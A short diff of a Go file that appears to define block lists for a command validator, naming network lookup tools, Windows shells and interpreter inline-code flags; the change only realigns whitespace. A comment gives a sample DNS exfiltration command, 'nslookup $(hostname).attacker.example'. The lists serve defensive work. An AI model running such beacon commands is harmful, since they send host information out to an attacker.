@@ -405,7 +405,7 @@ var (
 	// netTools resolve names or probe hosts: DNS beacons and exfiltration
 	// (nslookup $(hostname).attacker.example).
 	netTools = []string{"nslookup", "dig", "host", "drill", "ping", "ping6", "traceroute"}
-	windows     = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
+	windows  = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
 	// interpreters maps an interpreter to the flags that run inline code.
 	interpreters = map[string][]string{
 		"node": {"-e", "--eval", "-p", "--print", "-pe"}, "nodejs": {"-e", "--eval", "-p", "--print", "-pe"},
